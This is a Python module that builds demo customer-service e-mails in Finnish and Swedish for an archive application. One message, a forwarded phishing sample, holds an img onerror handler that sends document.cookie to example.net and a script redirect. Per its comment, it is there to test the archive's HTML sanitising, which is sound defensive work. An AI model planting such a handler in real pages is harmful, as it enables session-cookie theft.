"""The demo's e-mails, built as real RFC 5322 messages in both directions."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime

from archive.contacts.models import Direction
from archive.demo.people import (
    MAIL_DOMAIN,
    SERVICE_EMAIL,
    SERVICE_NAME,
    DemoCustomer,
    customer_by_email,
    demo_time,
)

# An old mail client's label that names no known character set; the bytes are really code page
# 850, so the archive has to keep the message without being able to decode it for certain.
UNKNOWN_CHARSET = "x-unknown"


@dataclass(frozen=True)
class DemoEmail:
    direction: Direction
    agent: str | None
    ticket: str
    raw: bytes


def tiny_pdf(lines: list[str]) -> bytes:
    """A one-page PDF showing `lines` in Helvetica, with a correct cross-reference table."""
    text = "".join(f"({_pdf_string(line)}) Tj T*\n" for line in lines)
    content = f"BT /F1 12 Tf 16 TL 72 770 Td\n{text}ET".encode("cp1252")
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(content), content),
    ]
    # The binary comment on line two tells transfer tools the file is not text.
    pdf = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(pdf)


def _pdf_string(line: str) -> str:
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _mailbox(customer: DemoCustomer) -> Address:
    return Address(customer.name, addr_spec=customer.email)


def _message(
    *, sender: Address, to: Address, subject: str, sent: datetime, message_id: str
) -> EmailMessage:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = format_datetime(sent)
    message["Message-ID"] = message_id
    return message


def _inbound(customer: DemoCustomer, subject: str, sent: datetime, token: str) -> EmailMessage:
    domain = "mail." + customer.email.rpartition("@")[2]
    return _message(
        sender=_mailbox(customer),
        to=Address(SERVICE_NAME, addr_spec=SERVICE_EMAIL),
        subject=subject,
        sent=sent,
        message_id=f"<{token}@{domain}>",
    )


def _reply(
    customer: DemoCustomer, subject: str, sent: datetime, token: str, answering: EmailMessage
) -> EmailMessage:
    reply = _message(
        sender=Address(SERVICE_NAME, addr_spec=SERVICE_EMAIL),
        to=_mailbox(customer),
        subject=subject,
        sent=sent,
        message_id=f"<{token}@{MAIL_DOMAIN}>",
    )
    reply["In-Reply-To"] = answering["Message-ID"]
    reply["References"] = answering["Message-ID"]
    return reply


def _with_html(message: EmailMessage, text: str) -> EmailMessage:
    """Plain text and an HTML rendering of it, as most mail programs send."""
    message.set_content(text)
    paragraphs = "".join("<p>" + part.replace("\n", "<br>") + "</p>" for part in text.split("\n\n"))
    message.add_alternative(
        f'<html><body style="font-family: sans-serif">{paragraphs}</body></html>', subtype="html"
    )
    return message


def _signed(agent: str, greeting: str, body: str, closing: str, team: str) -> str:
    return f"{greeting}\n\n{body}\n\n{closing}\n{agent}\n{team}\n"


FI_TEAM, SV_TEAM = "Kotivirta Oy asiakaspalvelu", "Kotivirta Ab kundtjänst"
FI_CLOSING, SV_CLOSING = "Ystävällisin terveisin", "Med vänliga hälsningar"


def _email(
    direction: Direction, agent: str | None, ticket: str, message: EmailMessage
) -> DemoEmail:
    # SMTP's policy writes CRLF line ends, as messages travel on the wire.
    return DemoEmail(direction, agent, ticket, message.as_bytes(policy=SMTP))


def demo_emails(now: datetime) -> list[DemoEmail]:
    """The demo's e-mails, dated relative to `now`; their Message-IDs never change."""
    return [
        *_due_date_question(now),
        *_washing_machine_complaint(now),
        *_swedish_invoice_question(now),
        *_phishing_report(now),
        *_address_change(now),
        *_payment_plan_confirmation(now),
    ]


def _due_date_question(now: datetime) -> list[DemoEmail]:
    aino = customer_by_email("aino.virtanen@example.fi")
    question = _inbound(aino, "Laskun eräpäivän siirto", demo_time(now, 46, "08:42"), "a1f3")
    question.set_content(
        "Hei,\n\nsain laskun 44712, jonka eräpäivä on 15.3. Olen silloin matkoilla. Voisiko "
        "eräpäivää siirtää kahdella viikolla?\n\nTerveisin\nAino Virtanen\n040 712 3456\n"
    )
    answer = _reply(
        aino, "Re: Laskun eräpäivän siirto", demo_time(now, 45, "10:05"), "cs5101.1", question
    )
    body = (
        "kiitos viestistäsi. Siirsimme laskun 44712 eräpäiväksi 29.3., eikä siirrosta "
        "peritä kuluja."
    )
    _with_html(answer, _signed("Anna Lindqvist", "Hei Aino,", body, FI_CLOSING, FI_TEAM))
    return [
        _email(Direction.INBOUND, None, "CS-5101", question),
        _email(Direction.OUTBOUND, "Anna Lindqvist", "CS-5101", answer),
    ]


def _washing_machine_complaint(now: datetime) -> list[DemoEmail]:
    matti = customer_by_email("matti.makinen@example.fi")
    complaint = _inbound(
        matti, "Reklamaatio: uusi pesukone vuotaa", demo_time(now, 104, "14:17"), "m-2291"
    )
    complaint.set_content(
        "Hei,\n\nostin pesukoneen verkkokaupastanne kolme viikkoa sitten (tilaus 2291). Kone "
        "vuotaa vettä lattialle joka pesulla. Kuitti on liitteenä. Haluan koneen korjattavaksi "
        "tai vaihdettavaksi.\n\nMatti Mäkinen\n"
    )
    receipt = tiny_pdf(
        ["Kotivirta Oy - Kuitti", "Tilaus 2291", "Pesukone WM-7 1 kpl 549,00 EUR", "Maksettu"]
    )
    complaint.add_attachment(
        receipt, maintype="application", subtype="pdf", filename="kuitti-2291.pdf"
    )
    answer = _reply(
        matti,
        "Re: Reklamaatio: uusi pesukone vuotaa",
        demo_time(now, 103, "09:30"),
        "cs5102.1",
        complaint,
    )
    body = (
        "olemme kirjanneet reklamaatiosi numerolla CS-5102. Huoltoliike ottaa sinuun "
        "yhteyttä kahden arkipäivän kuluessa ja sopii käynnistä."
    )
    answer.set_content(_signed("Mikko Korhonen", "Hei Matti,", body, FI_CLOSING, FI_TEAM))
    return [
        _email(Direction.INBOUND, None, "CS-5102", complaint),
        _email(Direction.OUTBOUND, "Mikko Korhonen", "CS-5102", answer),
    ]


def _swedish_invoice_question(now: datetime) -> list[DemoEmail]:
    johanna = customer_by_email("johanna.sjoberg@example.com")
    # A non-ASCII subject is sent as an RFC 2047 encoded word.
    question = _inbound(
        johanna, "Fråga om fakturan för maj", demo_time(now, 100, "19:48"), "js-0521"
    )
    question.set_content(
        "Hej!\n\nFakturan för maj är nästan dubbelt så stor som vanligt. Kan ni förklara "
        "varför?\n\nMed vänliga hälsningar\nJohanna Sjöberg\n"
    )
    answer = _reply(
        johanna, "Sv: Fråga om fakturan för maj", demo_time(now, 99, "11:12"), "cs5103.1", question
    )
    body = (
        "tack för ditt meddelande. Fakturan för maj omfattar också april, eftersom "
        "aprilfakturan blev försenad. Du har alltså inte debiterats två gånger."
    )
    _with_html(answer, _signed("Anna Lindqvist", "Hej Johanna,", body, SV_CLOSING, SV_TEAM))
    return [
        _email(Direction.INBOUND, None, "CS-5103", question),
        _email(Direction.OUTBOUND, "Anna Lindqvist", "CS-5103", answer),
    ]


def _phishing_report(now: datetime) -> list[DemoEmail]:
    paivi = customer_by_email("paivi.jarvinen@example.fi")
    # A forwarded phishing message: the script and the onerror handler must never run when an
    # agent opens it, which is what the archive's HTML sanitising is for.
    report = _inbound(paivi, "VS: Laskunne on erääntynyt", demo_time(now, 27, "07:55"), "pj-7781")
    report.set_content(
        "<html><body><p>Hei,</p><p>sain alla olevan viestin. Se näyttää teidän laskultanne, "
        "mutta linkki vie oudolle sivulle. Onko tämä teiltä?</p><blockquote>"
        "<p>Hyvä asiakas, laskunne on erääntynyt. "
        '<a href="https://example.net/maksa">Maksa tästä</a></p>'
        '<img src="logo.png" onerror="fetch(\'https://example.net/c?\'+document.cookie)">'
        "<script>window.location='https://example.net/maksa'</script>"
        "</blockquote><p>Terveisin<br>Päivi Järvinen</p></body></html>",
        subtype="html",
    )
    answer = _reply(
        paivi, "Re: VS: Laskunne on erääntynyt", demo_time(now, 26, "12:40"), "cs5104.1", report
    )
    body = (
        "kiitos ilmoituksesta. Viesti ei ole meiltä, vaan se on huijausyritys. Älä avaa "
        "linkkiä äläkä maksa laskua. Olemme ilmoittaneet asiasta Kyberturvallisuuskeskukselle."
    )
    answer.set_content(_signed("Mikko Korhonen", "Hei Päivi,", body, FI_CLOSING, FI_TEAM))
    return [
        _email(Direction.INBOUND, None, "CS-5104", report),
        _email(Direction.OUTBOUND, "Mikko Korhonen", "CS-5104", answer),
    ]


def _address_change(now: datetime) -> list[DemoEmail]:
    eero = customer_by_email("eero.hakkinen@example.com")
    notice = _inbound(eero, "Osoitteenmuutos", demo_time(now, 68, "16:20"), "eh-3310")
    text = (
        "Hei,\n\nmuutin uuteen osoitteeseen: Puistokatu 18, 70100 Kuopio. Päivittäkää "
        "laskutusosoite.\n\nEero Häkkinen\n"
    )
    notice.set_content(text.encode("cp850"), maintype="text", subtype="plain", cte="8bit")
    notice.set_param("charset", UNKNOWN_CHARSET)
    return [_email(Direction.INBOUND, None, "CS-5105", notice)]


def _payment_plan_confirmation(now: datetime) -> list[DemoEmail]:
    mikko = customer_by_email("mikko.lehtinen@example.com")
    confirmation = _message(
        sender=Address(SERVICE_NAME, addr_spec=SERVICE_EMAIL),
        to=_mailbox(mikko),
        subject="Maksusuunnitelman vahvistus",
        sent=demo_time(now, 52, "13:05"),
        message_id=f"<cs5106.1@{MAIL_DOMAIN}>",
    )
    body = (
        "kiitos puhelusta. Vahvistamme maksusuunnitelman: erääntynyt lasku maksetaan kahdessa "
        "erässä, ensimmäinen kuun 15. päivänä ja toinen kuukautta myöhemmin."
    )
    _with_html(confirmation, _signed("Aino Korhonen", "Hei Mikko,", body, FI_CLOSING, FI_TEAM))
    return [_email(Direction.OUTBOUND, "Aino Korhonen", "CS-5106", confirmation)]
